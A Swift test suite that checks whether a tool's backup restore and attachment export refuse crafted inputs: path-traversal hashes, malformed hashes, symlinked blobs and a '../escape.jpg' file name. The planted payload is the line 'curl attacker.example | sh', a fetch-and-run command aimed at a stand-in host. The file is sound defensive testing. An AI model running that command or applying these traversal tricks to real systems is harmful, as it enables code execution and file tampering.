import Foundation
import Testing
import TestSupport

/// `attach restore` of backups an attacker crafted (hashes that are paths, hashes of the wrong
/// form, links in the blobs folder), and `attach export -o DIR` of a crafted file name, run with
/// the real binary: each fails naming the damage, exits non-zero, and no file outside the new
/// store (or the export folder) is created, changed or removed.
@Suite("attach restore and export refuse crafted backups and names", .timeLimit(.minutes(3)))
struct HostileBackupTests {
    /// How a variant spoils the backup at `backup`; the hash of its one real original is `real`.
    struct Variant: Sendable, CustomTestStringConvertible {
        let name: String
        /// What stderr must say.
        let says: String
        let spoil: @Sendable (_ scene: Scene) throws -> Void
        var testDescription: String { name }
    }

    /// `T/store` (one photo), its backup `T/b/backup`, the user's files `T/home/.bashrc` and
    /// `T/victim/v`, an attacker's payload `T/b/home/.bashrc` beside the backup, and the restore
    /// target `T/restored`.
    struct Scene: Sendable {
        let directory: TemporaryDirectory
        let outsideVictim: TemporaryDirectory
        var backup: URL { directory.appending("b/backup") }
        var restored: URL { directory.appending("restored") }
        var backupCatalog: String { backup.appending(path: "catalog.sqlite").path(percentEncoded: false) }
        let realHash: String
        static let payload = Data("curl attacker.example | sh\n".utf8)

        init(_ label: String) async throws {
            directory = try TemporaryDirectory(label)
            // Straight under /tmp, not TMPDIR: a traversal hash has 64 characters to climb from
            // the restore target to `/` and name the victim, so the victim's path must be short
            // wherever the test run keeps its folders.
            outsideVictim = try TemporaryDirectory("victim", under: URL(filePath: "/tmp", directoryHint: .isDirectory))
            let store = directory.appending("store")
            try await Attach.initStore(store)
            let imported = try await Attach.run(["import", "--new-note", "Trip", "--json", try Corpus.file("good/Dune.jpg").path(percentEncoded: false)],
                                                store: store)
            realHash = try #require(Attach.importedLines(imported.stdout).first?.attachment["blobHash"] as? String)
            #expect(try await Attach.run(["backup", backup.path(percentEncoded: false)], store: store).exitCode == 0)
            for (path, bytes) in [("home/.bashrc", Data("alias ll='ls -l'\n".utf8)), ("home/secret", Data("my secret\n".utf8)),
                                  ("b/home/.bashrc", Self.payload)] {
                let url = directory.appending(path)
                try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
                try bytes.write(to: url)
            }
            try Data("the user's file\n".utf8).write(to: outsideVictim.appending("v"))
        }

        /// Every file outside the store, the backup and the restore target, with its bytes.
        func outside() throws -> [String: Data] {
            var files: [String: Data] = [:]
            for relative in Files.tree(directory.url) where !relative.hasPrefix("store/") && !relative.hasPrefix("b/backup/") {
                files[relative] = try Data(contentsOf: directory.appending(relative))
            }
            files["/victim"] = try Data(contentsOf: outsideVictim.appending("v"))
            return files
        }

        /// The path of the real original inside the backup.
        func backupBlob(_ hash: String) -> String { Files.blobPath(in: backup, hash: hash) }
    }

    static let variants: [Variant] = [
        Variant(name: "a hash climbing out of the store to replace ~/.bashrc", says: "is not a SHA-256") { scene in
            try HostileCatalog.tamper(sqliteCatalog: scene.backupCatalog,
                                      HostileCatalog.plantingAttachment(hash: HostileCatalog.siblingHash("home/.bashrc"),
                                                                        byteCount: Int64(Scene.payload.count)))
        },
        Variant(name: "a hash naming an absolute path outside, to delete it", says: "is not a SHA-256") { scene in
            let hash = HostileCatalog.traversalHash(from: scene.restored, to: scene.outsideVictim.appending("v"), variant: 3)
            try HostileCatalog.tamper(sqliteCatalog: scene.backupCatalog, HostileCatalog.plantingAttachment(hash: hash, byteCount: 1))
        },
        Variant(name: "a hash one digit short", says: "is not a SHA-256") { scene in
            try HostileCatalog.tamper(sqliteCatalog: scene.backupCatalog,
                                      HostileCatalog.plantingAttachment(hash: String(scene.realHash.dropLast()), byteCount: 1))
        },
        Variant(name: "a hash in upper case", says: "is not a SHA-256") { scene in
            try HostileCatalog.tamper(sqliteCatalog: scene.backupCatalog,
                                      HostileCatalog.plantingAttachment(hash: scene.realHash.uppercased(), byteCount: 1))
        },
        Variant(name: "an original that is a symbolic link to a file outside", says: "is a symbolic link") { scene in
            let blob = scene.backupBlob(scene.realHash)
            chmod(URL(filePath: blob).deletingLastPathComponent().path(percentEncoded: false), 0o700)
            try FileManager.default.removeItem(atPath: blob)
            try FileManager.default.createSymbolicLink(atPath: blob, withDestinationPath: scene.directory.appending("home/secret").path(percentEncoded: false))
        },
        Variant(name: "a blobs folder that is a symbolic link to a folder outside", says: "is a symbolic link") { scene in
            let folder = URL(filePath: scene.backupBlob(scene.realHash)).deletingLastPathComponent()
            let elsewhere = scene.directory.appending("home/blobs")
            try FileManager.default.createDirectory(at: elsewhere, withIntermediateDirectories: true)
            try Data("my secret\n".utf8).write(to: elsewhere.appending(path: scene.realHash))
            try FileManager.default.removeItem(at: folder)
            try FileManager.default.createSymbolicLink(at: folder, withDestinationURL: elsewhere)
        },
    ]

    @Test("restoring a crafted backup fails naming the damage, exits non-zero, and touches nothing outside the new store",
          arguments: variants)
    func craftedBackupIsRefused(variant: Variant) async throws {
        let scene = try await Scene("hostile-restore")
        try variant.spoil(scene)
        let before = try scene.outside()

        let outcome = try await Attach.run(["restore", scene.backup.path(percentEncoded: false),
                                            "--store", scene.restored.path(percentEncoded: false)], store: nil)
        #expect(outcome.exitCode != 0 && outcome.exitCode != nil, "\(outcome.stdout)")
        #expect(outcome.stderr.contains(variant.says), "\(outcome.stderr)")
        #expect(outcome.stderr.split(separator: "\n").count == 1, "one line, nothing forged: \(outcome.stderr)")
        #expect(!FileManager.default.fileExists(atPath: scene.restored.path(percentEncoded: false)), "nothing written, not even the new folder")
        #expect(try scene.outside() == before)
    }

    @Test("exporting into a folder an attachment whose stored name climbs out of it is refused, and nothing is written outside")
    func craftedFilenameIsNotExported() async throws {
        let directory = try TemporaryDirectory("hostile-export")
        let store = directory.appending("store")
        try await Attach.initStore(store)
        let imported = try await Attach.run(["import", "--new-note", "Trip", "--json", try Corpus.file("good/Dune.jpg").path(percentEncoded: false)],
                                            store: store)
        let hash = try #require(Attach.importedLines(imported.stdout).first?.attachment["blobHash"] as? String)
        let id = UUID().uuidString.lowercased()
        try HostileCatalog.tamper(sqliteCatalog: store.appending(path: "catalog.sqlite").path(percentEncoded: false),
                                  HostileCatalog.plantingAttachment(hash: hash, attachmentID: id, filename: "../escape.jpg", addingBlob: false))
        let folder = directory.appending("out")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)

        let outcome = try await Attach.run(["export", id, "-o", folder.path(percentEncoded: false)], store: store)
        #expect(outcome.exitCode == 1)
        #expect(outcome.stderr.contains(#"the file name "../escape.jpg" holds a path separator"#), "\(outcome.stderr)")
        #expect(Files.tree(directory.url).filter { !$0.hasPrefix("store/") }.isEmpty, "\(Files.tree(directory.url))")

        // A file path chosen by the user still works.
        let chosen = folder.appending(path: "photo.jpg")
        #expect(try await Attach.run(["export", id, "-o", chosen.path(percentEncoded: false)], store: store).exitCode == 0)
        #expect(try Files.sha256(chosen) == hash)
    }
}
